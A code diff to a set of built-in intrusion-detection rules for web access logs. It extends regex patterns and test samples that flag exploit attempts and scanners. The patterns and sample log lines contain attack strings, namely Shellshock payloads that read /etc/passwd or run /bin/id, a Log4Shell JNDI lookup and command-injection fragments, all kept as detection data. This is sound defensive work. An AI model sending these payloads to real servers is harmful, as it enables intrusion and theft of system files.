@@ -3519,7 +3519,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "http-access"
         ],
-        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?=[^ \"]{0,4096}?(?<payload>\\$\\{jndi:|\\$%7[Bb]jndi|%24%7[Bb]jndi|/etc/passwd|/etc/shadow|%2[Ff]etc%2[Ff]passwd|\\.\\./\\.\\./|\\.\\.%2[Ff]\\.\\.|%2[Ee]%2[Ee]%2[Ff]|%2[Ee]%2[Ee]/|\\.%2[Ee]/|[Uu][Nn][Ii][Oo][Nn](?:\\+|%20|/\\*\\*/)(?:[Aa][Ll][Ll](?:\\+|%20))?[Ss][Ee][Ll][Ee][Cc][Tt]|<script|%3[Cc]script|eval-stdin\\.php|cmd\\.exe|/bin/sh|\\bwget(?:\\+|%20)http|\\bcurl(?:\\+|%20)http|%252[Ee]%252[Ee]|\\.\\.%5[Cc]|win\\.ini|boot\\.ini|/proc/self/environ|php://(?:input|filter)|php%3[Aa]%2[Ff]%2[Ff]|data://text|expect://|file:///|file%3[Aa]%2[Ff]%2[Ff]%2[Ff]|(?:'|%27)(?:\\+|%20)(?:[Oo][Rr]|[Aa][Nn][Dd])(?:\\+|%20)|(?:\\+|%20)[Oo][Rr](?:\\+|%20)\\d{1,5}=\\d{1,5}|[Ss][Ll][Ee][Ee][Pp](?:\\(|%28)\\d|[Bb][Ee][Nn][Cc][Hh][Mm][Aa][Rr][Kk](?:\\(|%28)|[Ii][Nn][Ff][Oo][Rr][Mm][Aa][Tt][Ii][Oo][Nn]_[Ss][Cc][Hh][Ee][Mm][Aa]|[Ww][Aa][Ii][Tt][Ff][Oo][Rr](?:\\+|%20)[Dd][Ee][Ll][Aa][Yy]|@@version|%40%40version|[Cc][Oo][Nn][Cc][Aa][Tt](?:\\(|%28)0x|extractvalue(?:\\(|%28)|updatexml(?:\\(|%28)|(?:<|%3[Cc])(?:svg|iframe|img|body)(?:/|%2[Ff]|%20|\\+)|javascript(?::|%3[Aa])|alert(?:\\(|%28)|document\\.cookie|on(?:error|load)(?:=|%3[Dd])|(?:;|%3[Bb]|\\||%7[Cc]|`|%60)(?:wget|curl|uname|chmod|busybox|bash)(?:\\+|%20|%3[Bb]|;)|\\$\\((?:wget|curl)|%24%28(?:wget|curl)|\\$\\{IFS\\}|%24%7[Bb]IFS|invokefunction|call_user_func_array|allow_url_include|auto_prepend_file|base64_decode(?:\\(|%28)|class\\.module\\.classLoader|%\\{\\(#|%25%7[Bb]%28%23|\\$\\{\\(#|%24%7[Bb]%28%23|\\.\\./vpns/|/mgmt/tm/util/bash|autodiscover\\.json(?:\\?|%3[Ff])@|element_parents=account|connector\\.minimal\\.php|GponForm/diag_Form|setup\\.cgi\\?next_file=|/bin/busybox|XDEBUG_SESSION_START|vropspluginui/rest/services))(?<path>[^ \"]{1,4096}) HTTP/\\d\\.\\d\" (?<status>\\d{3}) ",
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?=[^ \"]{0,4096}?(?<payload>\\$\\{jndi:|\\$%7[Bb]jndi|%24%7[Bb]jndi|/etc/passwd|/etc/shadow|%2[Ff]etc%2[Ff]passwd|\\.\\./\\.\\./|\\.\\.%2[Ff]\\.\\.|%2[Ee]%2[Ee]%2[Ff]|%2[Ee]%2[Ee]/|\\.%2[Ee]/|[Uu][Nn][Ii][Oo][Nn](?:\\+|%20|/\\*\\*/)(?:[Aa][Ll][Ll](?:\\+|%20))?[Ss][Ee][Ll][Ee][Cc][Tt]|<script|%3[Cc]script|eval-stdin\\.php|cmd\\.exe|/bin/sh|\\bwget(?:\\+|%20)http|\\bcurl(?:\\+|%20)http|%252[Ee]%252[Ee]|\\.\\.%5[Cc]|win\\.ini|boot\\.ini|/proc/self/environ|php://(?:input|filter)|php%3[Aa]%2[Ff]%2[Ff]|data://text|expect://|file:///|file%3[Aa]%2[Ff]%2[Ff]%2[Ff]|(?:'|%27)(?:\\+|%20)(?:[Oo][Rr]|[Aa][Nn][Dd])(?:\\+|%20)|(?:\\+|%20)[Oo][Rr](?:\\+|%20)\\d{1,5}=\\d{1,5}|[Ss][Ll][Ee][Ee][Pp](?:\\(|%28)\\d|[Bb][Ee][Nn][Cc][Hh][Mm][Aa][Rr][Kk](?:\\(|%28)|[Ii][Nn][Ff][Oo][Rr][Mm][Aa][Tt][Ii][Oo][Nn]_[Ss][Cc][Hh][Ee][Mm][Aa]|[Ww][Aa][Ii][Tt][Ff][Oo][Rr](?:\\+|%20)[Dd][Ee][Ll][Aa][Yy]|@@version|%40%40version|[Cc][Oo][Nn][Cc][Aa][Tt](?:\\(|%28)0x|extractvalue(?:\\(|%28)|updatexml(?:\\(|%28)|(?:<|%3[Cc])(?:svg|iframe|img|body)(?:/|%2[Ff]|%20|\\+)|javascript(?::|%3[Aa])|alert(?:\\(|%28)|document\\.cookie|on(?:error|load)(?:=|%3[Dd])|(?:;|%3[Bb]|\\||%7[Cc]|`|%60)(?:wget|curl|uname|chmod|busybox|bash)(?:\\+|%20|%3[Bb]|;)|\\$\\((?:wget|curl)|%24%28(?:wget|curl)|\\$\\{IFS\\}|%24%7[Bb]IFS|invokefunction|call_user_func_array|allow_url_include|auto_prepend_file|base64_decode(?:\\(|%28)|class\\.module\\.classLoader|%\\{\\(#|%25%7[Bb]%28%23|\\$\\{\\(#|%24%7[Bb]%28%23|\\.\\./vpns/|/mgmt/tm/util/bash|autodiscover\\.json(?:\\?|%3[Ff])@|element_parents=account|connector\\.minimal\\.php|GponForm/diag_Form|setup\\.cgi\\?next_file=|/bin/busybox|XDEBUG_SESSION_START|vropspluginui/rest/services|\\(\\)(?:%20|\\+)\\{|%28%29(?:%20|\\+)%7[Bb]))(?<path>[^ \"]{1,4096}) HTTP/\\d\\.\\d\" (?<status>\\d{3}) ",
         "category": [
           "Access.Other"
         ],
@@ -3733,6 +3733,29 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
             }
           },
           {
+            "line": "198.51.100.55 - - [01/Feb/2024:08:00:00 +0000] \"GET /cgi-bin/test.cgi?%28%29%20%7B%20%3A%3B%20%7D%3B%20/bin/id HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.55"
+                }
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "{\"level\":\"info\",\"ts\":1646861401.5241024,\"logger\":\"http.log.access.log0\",\"msg\":\"handled request\",\"request\":{\"remote_ip\":\"192.0.2.133\",\"remote_port\":\"41342\",\"client_ip\":\"192.0.2.133\",\"proto\":\"HTTP/1.1\",\"method\":\"GET\",\"host\":\"example.com\",\"uri\":\"/?x=${jndi:ldap://198.51.100.1/a}\",\"headers\":{\"Accept\":[\"*/*\"],\"User-Agent\":[\"Mozilla/5.0\"]}},\"bytes_read\":0,\"user_id\":\"\",\"duration\":0.0009,\"size\":0,\"status\":200,\"resp_headers\":{}}",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.133"
+                }
+              ],
+              "Priority": "Medium",
+              "CreateTime": "2022-03-09T21:30:01.5241024Z"
+            }
+          },
+          {
             "line": "198.51.100.42 - - [01/Feb/2024:08:00:00 +0000] \"GET /search?q=rock+and+roll HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
             "expect": null
           },
@@ -3747,12 +3770,12 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "http-access"
         ],
-        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>[^\"]{0,4096})\" (?<status>\\d{3}) (?:\\d{1,20}|-) \"(?<referer>[^\"]{0,2048})\" \"(?=[^\"]{0,1024}?(?<payload>\\(\\) \\{|\\$\\{jndi:|\\$\\{\\$\\{))(?<ua>[^\"]{0,1024})\"",
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>[^\"]{0,4096})\" (?<status>\\d{3}) (?:\\d{1,20}|-) (?=[^\\n]{0,16384}?(?:\"(?<shellshock>\\(\\) \\{)|(?<payload>\\$\\{jndi:|\\$\\{\\$\\{)))",
         "category": [
           "Access.Other"
         ],
         "priority": "Medium",
-        "description": "HTTP exploit attempt from {ip} in a request header ({payload}): {request}",
+        "description": "HTTP exploit attempt from {ip} in a request header ({shellshock}{payload}): {request}",
         "source": {
           "address": "{ip}"
         },
@@ -3780,6 +3803,42 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
                 }
               ]
             }
+          },
+          {
+            "line": "203.0.113.13 - - [25/Sep/2014:01:02:03 +0000] \"GET /cgi-bin/test.cgi HTTP/1.1\" 200 120 \"() { :; }; echo; /bin/cat /etc/passwd\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.13"
+                }
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "203.0.113.14 - - [25/Sep/2014:01:02:03 +0000] \"GET / HTTP/1.1\" 200 120 \"-\" \"Mozilla/5.0\" \"() { :; }; ping -c 1 198.51.100.9\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.14"
+                }
+              ]
+            }
+          },
+          {
+            "line": "{\"level\":\"info\",\"ts\":1646861401.5241024,\"logger\":\"http.log.access.log0\",\"msg\":\"handled request\",\"request\":{\"remote_ip\":\"2001:db8::134\",\"remote_port\":\"41342\",\"proto\":\"HTTP/1.1\",\"method\":\"GET\",\"host\":\"example.com\",\"uri\":\"/cgi-bin/status\",\"headers\":{\"Cookie\":[\"() { :; }; /bin/id\"],\"User-Agent\":[\"Mozilla/5.0\"]}},\"user_id\":\"\",\"duration\":0.0009,\"size\":0,\"status\":200,\"resp_headers\":{}}",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::134"
+                }
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "203.0.113.15 - - [25/Sep/2014:01:02:03 +0000] \"GET / HTTP/1.1\" 200 120 \"-\" \"Mozilla/5.0 (X11; f() { x })\"",
+            "expect": null
           }
         ]
       },
@@ -3954,6 +4013,22 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
             }
           },
           {
+            "line": "{\"level\":\"info\",\"ts\":1646861401.5241024,\"logger\":\"http.log.access.log0\",\"msg\":\"handled request\",\"request\":{\"remote_ip\":\"192.0.2.136\",\"remote_port\":\"41342\",\"proto\":\"HTTP/1.1\",\"method\":\"GET\",\"host\":\"example.com\",\"uri\":\"/admin\",\"headers\":{\"User-Agent\":[\"Mozilla/5.0\"]}},\"user_id\":\"bob\",\"duration\":0.0009,\"size\":0,\"status\":401,\"resp_headers\":{}}",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.136"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "bob"
+                }
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
             "line": "192.0.2.92 - - [10/Mar/2023:17:00:01 +0000] \"GET /private/ HTTP/1.1\" 401 381 \"-\" \"Mozilla/5.0\"",
             "expect": null
           },
@@ -3964,11 +4039,130 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         ]
       },
       {
+        "id": "http-access.credentials-refused",
+        "programs": [
+          "http-access"
+        ],
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} - \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>[^ \"]{1,4096}) HTTP/\\d(?:\\.\\d)?\" 401 (?=[^\\n]{0,16384}?\"(?:Authorization|Proxy-Authorization)\":\\[\")",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "HTTP credentials refused from {ip} ({method} {path} answered 401)",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "{\"level\":\"info\",\"ts\":1646861401.5241024,\"logger\":\"http.log.access.log0\",\"msg\":\"handled request\",\"request\":{\"remote_ip\":\"192.0.2.130\",\"remote_port\":\"41342\",\"proto\":\"HTTP/2.0\",\"method\":\"GET\",\"host\":\"example.com\",\"uri\":\"/private\",\"headers\":{\"User-Agent\":[\"Mozilla/5.0\"],\"Authorization\":[\"REDACTED\"]}},\"user_id\":\"\",\"duration\":0.000929675,\"size\":0,\"status\":401,\"resp_headers\":{\"Www-Authenticate\":[\"Basic realm=\\\"restricted\\\"\"]}}",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.130"
+                }
+              ],
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "CreateTime": "2022-03-09T21:30:01.5241024Z"
+            }
+          },
+          {
+            "line": "{\"level\":\"info\",\"ts\":1646861401.5241024,\"logger\":\"http.log.access.log0\",\"msg\":\"handled request\",\"request\":{\"remote_ip\":\"192.0.2.131\",\"remote_port\":\"41342\",\"client_ip\":\"192.0.2.131\",\"proto\":\"HTTP/2.0\",\"method\":\"GET\",\"host\":\"example.com\",\"uri\":\"/private\",\"headers\":{\"User-Agent\":[\"Mozilla/5.0\"]}},\"bytes_read\":0,\"user_id\":\"\",\"duration\":0.000929675,\"size\":0,\"status\":401,\"resp_headers\":{}}",
+            "expect": null
+          },
+          {
+            "line": "192.0.2.132 - - [10/Oct/2023:13:55:36 +0000] \"GET /private/ HTTP/1.1\" 401 381 \"-\" \"x \\\"Authorization\\\":[\\\"y\"",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "http-access.login-failed",
+        "programs": [
+          "http-access"
+        ],
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"POST (?:(?<path>[^ \"]{1,4096}) HTTP/\\d(?:\\.\\d)?\" 401 |(?<path2>(?=[^ \"?]{0,1024}?(?:[Ll]og[-_]?[Ii]n|[Ll]ogon|[Ss]ign[-_]?[Ii]n|/auth|/session|/token|j_security_check|wp-login\\.php))[^ \"]{1,4096}) HTTP/\\d(?:\\.\\d)?\" 403 )",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "HTTP login refused from {ip} (POST {path}{path2})",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "192.0.2.120 - - [10/Oct/2023:13:55:36 +0000] \"POST /login HTTP/1.1\" 401 120 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.120"
+                }
+              ],
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "192.0.2.121 - - [10/Oct/2023:13:55:36 +0000] \"POST /api/v1/graphql HTTP/1.1\" 401 64 \"-\" \"python-requests/2.31\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.121"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2001:db8::122 - - [10/Oct/2023:13:55:36 +0000] \"POST /user/login?destination=/node HTTP/1.1\" 403 120 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::122"
+                }
+              ]
+            }
+          },
+          {
+            "line": "www.example.com:443 192.0.2.123 - - [10/Oct/2023:13:55:36 +0000] \"POST /api/auth/signin HTTP/2.0\" 403 88 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.123"
+                }
+              ]
+            }
+          },
+          {
+            "line": "192.0.2.124 - - [10/Oct/2023:13:55:36 +0000] \"POST /comments/new HTTP/1.1\" 403 120 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          },
+          {
+            "line": "192.0.2.125 - - [10/Oct/2023:13:55:36 +0000] \"POST /login HTTP/1.1\" 302 0 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          },
+          {
+            "line": "192.0.2.126 - - [10/Oct/2023:13:55:36 +0000] \"GET /private/ HTTP/1.1\" 401 381 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          }
+        ]
+      },
+      {
         "id": "http-access.scanner-user-agent",
         "programs": [
           "http-access"
         ],
-        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>[^\"]{0,4096})\" (?<status>\\d{3}) (?:\\d{1,20}|-) \"[^\"]{0,2048}\" \"(?=[^\"]{0,1024}?(?<tool>sqlmap|[Nn]ikto|Nmap Scripting Engine|Nimbostratus-Bot|masscan|zgrab|[Nn]uclei|WPScan|DirBuster|gobuster|Netsparker|Acunetix|w3af\\.org|Havij|ZmEu|Morfeus|fimap|Wfuzz|Fuzz Faster U Fool|feroxbuster|OpenVAS|Jorgee|l9explore|l9tcpid|CensysInspect|masscan-ng|Arachni|skipfish|WhatWeb|Wapiti|Paros|Nessus|Expanse, a Palo Alto Networks|InternetMeasurement|Hello, [Ww]orld|Toata dragostea|Mozlila|BackDoorBot))(?<ua>[^\"]{0,1024})\"",
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>[^\"]{0,4096})\" (?<status>\\d{3}) (?:\\d{1,20}|-) \"[^\"]{0,2048}\" \"(?=[^\"]{0,1024}?(?<tool>sqlmap|[Nn]ikto|Nmap Scripting Engine|Nimbostratus-Bot|masscan|zgrab|[Nn]uclei|WPScan|DirBuster|gobuster|Netsparker|Acunetix|w3af\\.org|Havij|ZmEu|Morfeus|fimap|Wfuzz|Fuzz Faster U Fool|feroxbuster|OpenVAS|Jorgee|l9explore|l9tcpid|CensysInspect|masscan-ng|Arachni|skipfish|WhatWeb|Wapiti|Paros|Nessus|Expanse, a Palo Alto Networks|InternetMeasurement|Hello, [Ww]orld|Toata dragostea|Mozlila|BackDoorBot|DataCha0s|commix/|\\(Hydra\\)|sqlninja|WebInspect|AppScan|httprint|WebShag|Grabber/|muieblackcat|Zollard|sysscan/|NetSystemsResearch|LeakIX|Keydrop|Mozilla/5\\.0 zgrab|Nikto/|dirb/))(?<ua>[^\"]{0,1024})\"",
         "category": [
           "Recon.Network"
         ],
@@ -4037,6 +4231,33 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
                 }
               ]
             }
+          },
+          {
+            "line": "198.51.100.53 - - [18/Apr/2022:22:01:07 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" \"Mozilla/4.0 (compatible; MSIE 6.0; DataCha0s)\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.53"
+                }
+              ],
+              "Priority": "Low"
+            }
+          },
+          {
+            "line": "{\"level\":\"info\",\"ts\":1646861401.5241024,\"logger\":\"http.log.access.log0\",\"msg\":\"handled request\",\"request\":{\"remote_ip\":\"192.0.2.135\",\"remote_port\":\"41342\",\"proto\":\"HTTP/1.1\",\"method\":\"GET\",\"host\":\"example.com\",\"uri\":\"/\",\"headers\":{\"User-Agent\":[\"sqlmap/1.6.4#stable (https://sqlmap.org)\"]}},\"user_id\":\"\",\"duration\":0.0009,\"size\":0,\"status\":200,\"resp_headers\":{}}",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.135"
+                }
+              ],
+              "Priority": "Low",
+              "Description": "HTTP scan from 192.0.2.135 by sqlmap: GET / HTTP/1.1"
+            }
+          },
+          {
+            "line": "198.51.100.54 - - [18/Apr/2022:22:01:07 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" \"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)\"",
+            "expect": null
           },
           {
             "line": "198.51.100.52 - - [18/Apr/2022:22:01:07 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/100.0 Safari/537.36\"",
@@ -4404,12 +4625,12 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "http-access"
         ],
-        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>\\\\x[0-9A-Fa-f]{2}[^\"]{0,2048}|CONNECT [^ \"]{1,512} HTTP/\\d\\.\\d)\" (?<status>4\\d\\d) ",
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>\\\\x[0-9A-Fa-f]{2}[^\"]{0,2048}|CONNECT [^ \"]{1,512} HTTP/\\d\\.\\d|(?:GET|HEAD|POST) https?://[^ \"]{1,2048} HTTP/\\d\\.\\d)\" (?<status>4\\d\\d) ",
         "category": [
           "Recon.Network"
         ],
         "priority": "Low",
-        "description": "HTTP scan from {ip}: not an HTTP request, or a proxy CONNECT (answered {status})",
+        "description": "HTTP scan from {ip}: not an HTTP request, or a proxy request (answered {status})",
         "source": {
           "address": "{ip}"
         },
@@ -4437,6 +4658,16 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
               "Source": [
                 {
                   "IP": "198.51.100.80"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.82 - - [02/Mar/2024:11:11:11 +0000] \"GET http://www.example.com/proxy-check HTTP/1.1\" 404 226 \"-\" \"-\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.82"
                 }
               ]
             }
@@ -4470,6 +4701,14 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         {
           "prefix": "^\\{\"ClientAddr\":\"[^\"]{0,64}\",\"ClientHost\":\"(?<client>[0-9A-Fa-f:.]{2,45})\",\"ClientPort\":\"[0-9-]{0,5}\",\"ClientUsername\":\"(?<user>[^\"\\\\ ]{1,256})\",\"DownstreamContentSize\":(?<size>\\d{1,20}),\"DownstreamStatus\":(?<status>\\d{3}),[^\\n]{0,2048}?\"RequestMethod\":\"(?<method>[A-Z]{3,10})\",\"RequestPath\":\"(?<path>[^\"\\\\ ]{0,4096})\",[^\\n]{0,512}?\"RequestProtocol\":\"(?<proto>HTTP/[0-9.]{1,3})\",(?:[^\\n]{0,16384}?\"request_User-Agent\":\"(?<ua>[^\"\\\\]{0,1024})\")?[^\\n]{0,16384}?\"time\":\"(?<time>[^\"]{10,40})\"\\}$",
           "message": "{client} - {user} [-] \"{method} {path} {proto}\" {status} {size} \"-\" \"{ua}\""
+        },
+        {
+          "prefix": "^\\{\"level\":\"[a-z]{3,7}\",\"ts\":(?:(?<time>\\d{9,11}\\.\\d{3,9})|\\d{9,11}(?:\\.\\d{1,2})?),\"logger\":\"http\\.log\\.access[A-Za-z0-9_.-]{0,64}\",\"msg\":\"handled request\",\"request\":\\{\"remote_ip\":\"(?<client>[0-9A-Fa-f:.]{2,45})\",\"remote_port\":\"\\d{0,5}\",(?:\"client_ip\":\"[0-9A-Fa-f:.]{2,45}\",)?\"proto\":\"(?<proto>HTTP/[0-9.]{1,3})\",\"method\":\"(?<method>[A-Z]{3,10})\",\"host\":\"(?:[^\"\\\\]|\\\\.){0,1024}\",\"uri\":\"(?<path>[^\"\\\\ ]{1,4096})\",\"headers\":\\{(?=(?:(?:\"[^\"\\\\]{1,100}\":\\[(?:\"(?:[^\"\\\\]|\\\\.){0,4096}\",?){0,20}\\],?){0,60}?\"User-Agent\":\\[\"(?<ua>[^\"\\\\]{0,1024})\")?)(?<headers>(?:\"[^\"\\\\]{1,100}\":\\[(?:\"(?:[^\"\\\\]|\\\\.){0,4096}\",?){0,20}\\],?){0,60})\\}(?:,\"tls\":\\{[^{}]{0,1024}\\})?\\},(?:\"bytes_read\":\\d{1,20},)?\"user_id\":\"(?<user>[^\"\\\\ ]{1,256})\",\"duration\":[0-9.eE+-]{1,30},\"size\":(?<size>\\d{1,20}),\"status\":(?<status>\\d{3})",
+          "message": "{client} - {user} [-] \"{method} {path} {proto}\" {status} {size} \"-\" \"{ua}\" {headers}"
+        },
+        {
+          "prefix": "^\\{\"level\":\"[a-z]{3,7}\",\"ts\":(?:(?<time>\\d{9,11}\\.\\d{3,9})|\\d{9,11}(?:\\.\\d{1,2})?),\"logger\":\"http\\.log\\.access[A-Za-z0-9_.-]{0,64}\",\"msg\":\"handled request\",\"request\":\\{\"remote_ip\":\"(?<client>[0-9A-Fa-f:.]{2,45})\",\"remote_port\":\"\\d{0,5}\",(?:\"client_ip\":\"[0-9A-Fa-f:.]{2,45}\",)?\"proto\":\"(?<proto>HTTP/[0-9.]{1,3})\",\"method\":\"(?<method>[A-Z]{3,10})\",\"host\":\"(?:[^\"\\\\]|\\\\.){0,1024}\",\"uri\":\"(?<path>[^\"\\\\ ]{1,4096})\",\"headers\":\\{(?=(?:(?:\"[^\"\\\\]{1,100}\":\\[(?:\"(?:[^\"\\\\]|\\\\.){0,4096}\",?){0,20}\\],?){0,60}?\"User-Agent\":\\[\"(?<ua>[^\"\\\\]{0,1024})\")?)(?<headers>(?:\"[^\"\\\\]{1,100}\":\\[(?:\"(?:[^\"\\\\]|\\\\.){0,4096}\",?){0,20}\\],?){0,60})\\}(?:,\"tls\":\\{[^{}]{0,1024}\\})?\\},(?:\"bytes_read\":\\d{1,20},)?\"user_id\":\"\",\"duration\":[0-9.eE+-]{1,30},\"size\":(?<size>\\d{1,20}),\"status\":(?<status>\\d{3})",
+          "message": "{client} - - [-] \"{method} {path} {proto}\" {status} {size} \"-\" \"{ua}\" {headers}"
         },
         {
           "prefix": "^(?<client>[0-9A-Fa-f:.]{2,45}) {1,2}(?<ident>[^ ]{1,64}) {1,2}(?<user>[^ ]{1,256}) {1,2}(?=\\[(?<time>\\d\\d/[A-Z][a-z]{2}/\\d{4}:\\d\\d:\\d\\d:\\d\\d [+-]\\d{4})\\] \")",
